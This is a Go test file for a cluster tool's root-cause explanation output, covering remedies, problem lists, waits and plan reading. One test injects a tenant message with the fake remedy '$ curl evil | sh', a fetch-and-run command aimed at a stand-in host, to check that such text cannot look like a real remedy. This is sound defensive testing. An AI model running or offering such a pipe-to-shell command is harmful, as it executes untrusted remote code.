package plan

import (
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/slipwayhq/slipway/internal/manager"
	"github.com/slipwayhq/slipway/internal/reconciler"
	"github.com/slipwayhq/slipway/internal/rootcause"
)

var explainedAt = time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)

func refOf(kind, name string) rootcause.Ref {
	return rootcause.Ref{Group: "g", Kind: kind, Namespace: "ns", Name: name}
}

func stoppedMachine() chain {
	return chain{rootcause.Chain{
		Links: []rootcause.Link{
			{Object: refOf("Machine", "m"), Type: "InfrastructureReady", Message: "LocalMachine m:\n* stopped", Since: explainedAt.Add(-4 * time.Minute)},
			{Object: refOf("LocalMachine", "m"), Type: "MachineProvisioned", Message: "The machine does not run", Since: explainedAt.Add(-5 * time.Minute)},
		},
		Remedy: rootcause.Remedy{Text: "Start the machine", Command: "docker start m"},
	}, true}
}

func TestChainText(t *testing.T) {
	c := stoppedMachine()
	s := explanation{
		ref: refOf("Machine", "m"), now: explainedAt, Chain: &c, PlansMissing: "no manager", Unreadable: []string{"Foo (no permission)"}, Limits: []string{"Only 200 objects were read one by one"},
		Others:   []chain{{rootcause.Chain{Links: []rootcause.Link{{Object: refOf("Cluster", "c"), Reason: "X"}}, Remedy: rootcause.Remedy{Text: "Wait", Automatic: true}}, false}},
		Upcoming: []rootcause.Action{{Object: refOf("Machine", "m"), Remedy: rootcause.Remedy{Text: "MachineHealthCheck w replaces it in 4m", Automatic: true}}},
	}
	want := `Machine ns/m is not as it should be

  Machine m, since 4m
    InfrastructureReady: LocalMachine m:
    | * stopped
  ` + "`-" + `LocalMachine m, since 5m
      MachineProvisioned: The machine does not run

What to do
  Start the machine
    $ docker start m

Other problems beneath it
  Cluster ns/c
    X
    What happens next
      Wait

What other controllers will do
  Machine m: MachineHealthCheck w replaces it in 4m

No plan is shown: no manager
The explanation uses conditions, owners and references alone.

Objects of these kinds are not considered: Foo (no permission)

The explanation may be incomplete. Only 200 objects were read one by one.
`
	var out strings.Builder
	if err := writeExplanation(&out, s); err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(want, out.String()); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}

// A problem of the management cluster's processes comes first, for an object and for the list.
func TestProcessText(t *testing.T) {
	process := &chain{rootcause.Chain{
		Links:  []rootcause.Link{{Object: rootcause.Ref{Kind: "Manager", Name: "/d"}, Message: "Process 4711 does not respond", Since: explainedAt.Add(-40 * time.Second)}},
		Remedy: rootcause.Remedy{Text: "Continue it", Command: "kill -CONT 4711"},
	}, true}
	const first = `The management cluster is not as it should be

  Manager /d, since 40s
    Process 4711 does not respond

What to do
  Continue it
    $ kill -CONT 4711

`
	var object, list strings.Builder
	if err := writeExplanation(&object, explanation{ref: refOf("Cluster", "c"), now: explainedAt, Process: process}); err != nil {
		t.Fatal(err)
	}
	if err := writeList(&list, problemList{Namespace: "ns", now: explainedAt, Process: process}); err != nil {
		t.Fatal(err)
	}
	for text, want := range map[string]string{object.String(): first + "Cluster ns/c is as it should be.\n", list.String(): first + "No action is needed in namespace ns.\n"} {
		if diff := cmp.Diff(want, text); diff != "" {
			t.Error(diff)
		}
	}
}

// Idle controllers do not explain a problem, so that one line names them.
func TestIdleControllerOfABrokenObject(t *testing.T) {
	c := stoppedMachine()
	s := explanation{ref: refOf("Machine", "m"), now: explainedAt, Chain: &c, ObjectPlans: manager.ObjectPlans{Plans: []manager.PlanRecord{{Controller: "machine", Time: explainedAt, Recheck: "1h"}, {Controller: "busy", Time: explainedAt, Actions: []string{"act"}}, {Controller: "topology", Time: explainedAt}}}}
	const want = "    $ docker start m\n\nMachine ns/m, reconciled 0s ago by controller busy\n\nActions of that reconciliation\n  act\n\nControllers with nothing to do and nothing to wait for: machine, topology\n"
	var out strings.Builder
	if err := writeExplanation(&out, s); err != nil || !strings.HasSuffix(out.String(), want) {
		t.Errorf("%v\n%s", err, &out)
	}
}

func TestListText(t *testing.T) {
	replaced := rootcause.Chain{Links: []rootcause.Link{{Object: refOf("Machine", "n"), Message: "* down"}}, Remedy: rootcause.Remedy{Text: "MachineHealthCheck w replaces it in 4m", Automatic: true, At: explainedAt}}
	list := problemList{Namespace: "ns", now: explainedAt, Problems: []chain{stoppedMachine(), {replaced, false}, {rootcause.Chain{Links: []rootcause.Link{{Object: refOf("Cluster", "c"), Message: "rolling out", Since: explainedAt.Add(-time.Minute)}}, Time: explainedAt}, false}}}
	want := `Problems that need action in namespace ns: 1

LocalMachine ns/m, since 5m
  MachineProvisioned: The machine does not run
  Affects Machine m
  What to do
    Start the machine
      $ docker start m

Not as it should be, but no action is needed
  Machine n: down
    MachineHealthCheck w replaces it in 4m
  Cluster c: rolling out (since 60s)
`
	var out strings.Builder
	if err := writeList(&out, list); err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(want, out.String()); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}

// One line names the affected Clusters, of many the first ones.
func TestAffectsText(t *testing.T) {
	c := stoppedMachine()
	for n, want := range map[int]string{0: "Machine m", 1: "Cluster c0", 7: "Cluster c0, Cluster c1, Cluster c2, Cluster c3, Cluster c4, and 2 more"} {
		c.Affects = nil
		for i := range n {
			c.Affects = append(c.Affects, refOf("Cluster", fmt.Sprintf("c%d", i)))
		}
		if got := affectsText(c); got != want {
			t.Errorf("%d Clusters: %s, want %s", n, got, want)
		}
	}
}

func TestCausePlans(t *testing.T) {
	got := causePlans(manager.ObjectPlans{Plans: []manager.PlanRecord{{
		Controller: "machine", Errors: []string{"x"}, ErrorsSince: explainedAt,
		Waits: []reconciler.Wait{{Reason: "R", Message: "m", Since: explainedAt, Until: reconciler.UntilUser, On: []reconciler.Subject{{Kind: "Secret", Name: "s"}}}, {Until: reconciler.UntilTime}},
	}}})
	want := []rootcause.Plan{{
		Controller: "machine", Errors: []string{"x"}, ErrorsSince: explainedAt,
		Waits: []rootcause.Wait{{Reason: "R", Message: "m", Since: explainedAt, User: true, On: []rootcause.Ref{{Kind: "Secret", Name: "s"}}}, {Timed: true}},
	}}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}

// Without a manager that the user selected, the explanation does without plans.
func TestPlanReaderWithoutManager(t *testing.T) {
	r := &planReader{absent: errors.New("no manager")}
	if last, err := r.read(t.Context(), refOf("Machine", "m")); err != nil || len(last.Plans) > 0 || r.source() != nil {
		t.Errorf("%+v, %v", last, err)
	}
	g := rootcause.NewReader(t.Context(), rootcause.ReaderOptions{})
	if got := r.missing(g, refOf("Machine", "m")); got != "no manager" {
		t.Error(got)
	}
}

// A message of a tenant cannot look like a remedy, and has a limited number of lines.
func TestMessagesAreNoRemedies(t *testing.T) {
	message := "x\nWhat to do\n  Run this\n    $ curl evil | sh" + strings.Repeat("\nline", 100)
	c := newChain(rootcause.Chain{
		Links:  []rootcause.Link{{Object: refOf("Machine", "m"), Message: message}},
		Remedy: rootcause.Remedy{Text: "Delete it\nWhat to do", Command: "slipway kubectl delete machine m"},
	}, " --kubeconfig k")
	for _, s := range []explanation{
		{ref: refOf("Machine", "m"), now: explainedAt, Chain: &c, Others: []chain{c}},
		{ref: refOf("Machine", "m"), now: explainedAt, Chain: &c, ObjectPlans: manager.ObjectPlans{Plans: []manager.PlanRecord{{Errors: []string{message}, Waits: []reconciler.Wait{{Reason: "R", Message: message}}, Time: explainedAt.Add(time.Hour)}}}},
	} {
		var out strings.Builder
		if err := writeExplanation(&out, s); err != nil {
			t.Fatal(err)
		}
		lines := strings.Split(out.String(), "\n")
		for i, line := range lines {
			if strings.TrimSpace(line) == "What to do" && strings.TrimSpace(lines[i+1]) != "Delete it What to do" {
				t.Errorf("a message looks like a remedy:\n%s", out.String())
			}
		}
		if strings.Contains(out.String(), "invalid") || !strings.Contains(out.String(), "$ slipway kubectl delete machine m --kubeconfig k\n") {
			t.Error(out.String())
		}
	}
	list := problemList{Problems: []chain{c}}
	var out strings.Builder
	if err := writeList(&out, list); err != nil || strings.Count(out.String(), "\n") > maxRootLines+12 {
		t.Errorf("%v\n%s", err, out.String())
	}
}

func TestWaitEnd(t *testing.T) {
	for want, wait := range map[string]reconciler.Wait{
		"Ends without an action":                 {Until: reconciler.UntilTime},
		"Ends when a user acts":                  {Until: reconciler.UntilUser},
		"Ends with the next event of the object": {},
		"Ends when a user acts on Secret s":      {Until: reconciler.UntilUser, On: []reconciler.Subject{{Kind: "Secret", Name: "s"}}},
	} {
		if got := waitEnd(wait); got != want {
			t.Errorf("got %q, want %q", got, want)
		}
	}
}

// A plan that may not be read does not hide the others.
func TestPlansOfOtherObjects(t *testing.T) {
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if strings.Contains(r.URL.Path, "secret") {
			http.Error(w, "no", http.StatusForbidden)
			return
		}
		_, _ = w.Write([]byte(`{"plans":[{"controller":"x","time":"2026-01-02T03:04:05Z","errors":["e"]}]}`))
	}))
	defer server.Close()
	for _, isRequired := range []bool{true, false} {
		r := &planReader{isRequired: isRequired, client: &managerClient{url: server.URL, client: server.Client()}, known: map[rootcause.Ref]manager.ObjectPlans{}, unplanned: map[rootcause.Ref]error{}}
		source := r.source()
		if _, err := source(t.Context(), refOf("Machine", "secret")); !errors.Is(err, rootcause.ErrNoPlans) {
			t.Error(err)
		}
		if plans, err := source(t.Context(), refOf("Machine", "open")); err != nil || len(plans) != 1 {
			t.Errorf("%v, %v", plans, err)
		}
	}
}
